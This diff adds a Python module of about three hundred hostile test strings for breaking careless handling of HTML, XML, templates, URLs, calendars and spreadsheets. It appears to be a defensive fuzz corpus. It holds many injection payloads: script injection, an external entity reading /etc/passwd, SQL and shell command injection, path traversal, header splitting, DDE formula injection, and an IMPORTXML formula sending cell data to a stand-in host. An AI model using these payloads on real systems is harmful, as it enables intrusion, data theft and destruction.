@@ -1,0 +1,296 @@
+"""Three hundred texts that break what is careless: pages, feeds, calendars, spreadsheets, messages."""
+
+MARKUP = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</SCRIPT\t><svg/onload=alert(1)>",
+    "</title></head><img src=x onerror=alert(1)>",
+    "</textarea></style></noscript></template><script>alert(1)</script>",
+    '"><svg onload=alert(1)>',
+    "' onmouseover='alert(1)",
+    '" autofocus onfocus="alert(1)',
+    "`onclick=alert(1)`",
+    "<img src=x onerror=alert(1)//",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<svg><![CDATA[<image xlink:href=x onerror=alert(1)>]]></svg>",
+    "<details open ontoggle=alert(1)>",
+    "<base href=//elsewhere.example/>",
+    "<meta http-equiv=refresh content='0;url=//elsewhere.example'>",
+    "<form action=//elsewhere.example><button>Join</button>",
+    "<link rel=stylesheet href=//elsewhere.example/x.css>",
+    "<plaintext>",
+    "<xmp>",
+    "</bdi></h1></main></body></html>",
+    "<b><i>never closed",
+    "<",
+    ">",
+    "&",
+    "<>&\"'",
+    "a < b > c & d",
+    "&lt;b&gt;&amp;amp;&#0;&nbsp",
+    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
+    "&notit; &copy &AMP &ampamp",
+    "<!-- no end",
+    "--><b>x",
+    "--!><script>alert(1)</script>",
+    "<!doctype html>",
+    "<?php echo 1 ?>",
+)
+
+XML = (
+    "]]><x>",
+    "]]>",
+    "<![CDATA[x",
+    "<![CDATA[x]]>",
+    "<?xml version='1.0'?>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "&e;&lol9;",
+    "</title></entry></feed>",
+    "</content><entry>",
+    "x\ufffe\uffff\ufdd0\U0001ffff",
+    "\x0b\x0c\x0e\x1f\x7f\x80\x9f",
+)
+
+DATA = (
+    "\\u003c/script\\u003e",
+    '"}</script><script>alert(1)</script>{"',
+    '","@type":"Person","name":"x',
+    "\\",
+    "\\\\",
+    '\\"',
+    "\\/",
+    "null",
+    "true",
+    "0",
+    "-1e999",
+    "[]",
+    "{}",
+    "__proto__",
+    "undefined",
+)
+
+TEMPLATES = (
+    "{{ 7*7 }}{% raw %}",
+    "{% endraw %}{{ config }}",
+    "{# no end",
+    "${7*7}#{7*7}",
+    "{0} {title} %s %(x)s",
+    "{title!r:>{width}}",
+    "%(",
+    "100 %",
+    "{",
+    "}}",
+    "$title $$",
+    "'; DROP TABLE events; --",
+    "$(reboot) `reboot` | reboot",
+    "../../etc/passwd",
+    "..\\..\\boot.ini",
+    "CON",
+    "/start w_1",
+    "@prework_bot",
+    "#hashtag",
+    "tg://user?id=1",
+    "*bold* _italic_ [x](https://example.org) `code` ||spoiler||",
+    "</b></i></a></pre></code>",
+    '<a href="https://elsewhere.example">here</a>',
+    '<tg-emoji emoji-id="1">x</tg-emoji>',
+)
+
+DIRECTION = (
+    "\u202eesrever\u202c",
+    "\u202eno end",
+    "\u202e",
+    "\u2067right to left\u2069",
+    "\u2066\u2067\u2068 none of them ends",
+    "\u2069\u202c ends what is not open",
+    "\u200f\u200e\u061c",
+    "\u05e2\u05d1\u05e8\u05d9\u05ea (1) \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
+    "\u200f\u05e9\u05dc\u05d5\u05dd \u0639\u0627\u0644\u0645",
+    "brief\u202efdp.exe",
+    "https://example.org/\u202egro.live",
+)
+
+INVISIBLE = (
+    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
+    "\u200b",
+    "\ufeffmark",
+    "soft\u00adhyphen",
+    "\u00a0no-break\u202f\u2007",
+    "\u3164\u115f\u1160\u17b4",
+    "\u2800",
+    "\U000e0001\U000e0041\U000e007f tags",
+    "\ufff9a\ufffab\ufffb",
+    "\ufffd\ufffc",
+    "",
+    " ",
+    "\t",
+    "\n",
+    "   spaces   inside   ",
+    " leading and trailing \t ",
+)
+
+CONTROLS = (
+    "a\x00b\x01c\x1b[31m",
+    "\x00",
+    "zero\x00width\x07\x1b[31m",
+    "\x1b]0;title\x07",
+    "tab\tand\r\nlines\rhere",
+    "a\u2028b\u2029c\x85d",
+    "one\ntwo\rthree\u2028four\u2029five\x85six\x0bseven\x0ceight\x1cnine",
+    "\r\n\r\n",
+    "x\r\nSet-Cookie: a=b",
+    "x\r\n\r\n<html>",
+    "%0d%0aSet-Cookie:%20a=b",
+    "a\n\n\n\nb",
+    "\ud800lone\udfff",
+    "\udfff\ud800 the wrong way round",
+    "\ud83d cut in half",
+)
+
+SCRIPTS = (
+    "𝕌𝕟𝕚𝕔𝕠𝕕𝕖 👩‍👩‍👧 é",
+    "👩🏽‍🔬",
+    "🏳️‍🌈🇩🇪🇫🇷",
+    "1️⃣#️⃣",
+    "Łódź",
+    "日本語",
+    "ｆｕｌｌｗｉｄｔｈ",
+    "İıſŉẞǆ",
+    "ﬁ ﬀ ﷺ",
+    "क्षि ண் กำ",
+    "e\u0301 e\u0301\u0301",
+    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0342\u0302\u0301lgo",
+    "\u0301alone",
+    "\u0430\u0440\u0440\u04cf\u0435",
+    "\U0010ffff\U000f0000\ue000",
+)
+
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+49 30 123",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    '=HYPERLINK("https://x.example","y")',
+    '=IMPORTXML(CONCAT("https://x.example/",A1),"//a")',
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    " =1",
+    "\u00a0=1",
+    '"=1',
+    "',=1",
+    "'=1",
+    "\ufeff=1",
+    "\0=1",
+    "a,b",
+    'a"b',
+    '""',
+    "a;b",
+    "a\r\nb",
+    "a|b\tc",
+    'DDE("cmd","/C calc","x")',
+)
+
+CALENDARS = (
+    "BEGIN:VEVENT",
+    "BEGIN:VCALENDAR\nEND:VCALENDAR",
+    "END:VEVENT\r\nEND:VCALENDAR",
+    "Cities\r\nATTENDEE:mailto:a@example.org",
+    "Cities\r\n ATTENDEE:mailto:a@example.org",
+    "C:\\New\\nights\\;\\,",
+    "\\n\\N\\\\N",
+    ";,:\"'^^n",
+    "Title;LANGUAGE=de:other",
+    "a" * 74 + "ü" + "b" * 74 + "€" + "c" * 73 + "😀",
+    "a" * 73 + "\\" * 4 + ",;",
+    "a" * 75 + " ",
+    "ü" * 37 + " " * 80 + "x",
+    "RRULE:FREQ=SECONDLY",
+)
+
+ADDRESSES = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\nscript:alert(1)",
+    "\x01javascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "javascript:alert(1)//https://example.org",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "vbscript:msgbox(1)",
+    "view-source:https://example.org",
+    "file:///etc/passwd",
+    "blob:https://example.org/1",
+    "//elsewhere.example/x",
+    "/\\elsewhere.example",
+    "\\\\elsewhere.example\\share",
+    "https://",
+    "https:///x",
+    "https:example.org",
+    "http://a b.example",
+    "https://example.org@elsewhere.example/",
+    "https://example.org\\@elsewhere.example/",
+    "https://[::1",
+    "https://[::1]:99999/",
+    "https://example.org:0/",
+    "https://example.org/?a=1&b=<2>\"'",
+    'https://example.org/"><script>alert(1)</script>',
+    "https://example.org/'onmouseover='alert(1)",
+    "https://example.org/\u2028x",
+    "https://example.org/%00%0d%0a",
+    "https://ex\u0430mple.org/",
+    "https://xn--exmple-4nf.org/",
+    "https://example.org/a,b;c(d).",
+    "https://example.org/" + "x" * 3000,
+    "mailto:a@example.org?bcc=b@example.org",
+    "tel:+49301234",
+    "webcal://example.org/x.ics",
+    "ftp://example.org/",
+    "HTTPS://EXAMPLE.ORG/",
+    "https://example.org/#<script>",
+)
+
+LONG = (
+    "x" * 3000,
+    "x" * 20_000,
+    "word " * 1000,
+    "<b>" * 700,
+    "&amp;" * 500,
+    "👩‍👩‍👧‍👦" * 40,
+    "é" * 200 + "\u0301" * 10,
+    "\u0301" * 500,
+    "\u202e" * 300,
+    "\n" * 400 + "x",
+    "'" * 600,
+    "A" * 63 + "\U0001f600" * 3,
+)
+
+_ALL = (
+    *MARKUP, *XML, *DATA, *TEMPLATES, *DIRECTION, *INVISIBLE, *CONTROLS, *SCRIPTS, *FORMULAS, *CALENDARS, *ADDRESSES,
+    *LONG,
+)  # fmt: skip
+
+MOST_PAIRED = 200
+"""Pairs are made of shorter texts: a long one is hostile by its length."""
+
+
+def _paired() -> tuple[str, ...]:
+    """Each text behind one of another sort: what one of them opens, the other finds open."""
+    short = [text for text in _ALL if 0 < len(text) < MOST_PAIRED]
+    return tuple(f"{text} {short[(number * 7 + 61) % len(short)]}" for number, text in enumerate(short))
+
+
+HOSTILE = (*_ALL, *_paired())[:300]
+"""All of them, each once."""
+
+
+def storable(text: str) -> str:
+    """The text without halves of characters: what people type loses them at the door, and UTF-8 cannot hold them."""
+    return "".join(character for character in text if not "\ud800" <= character <= "\udfff")
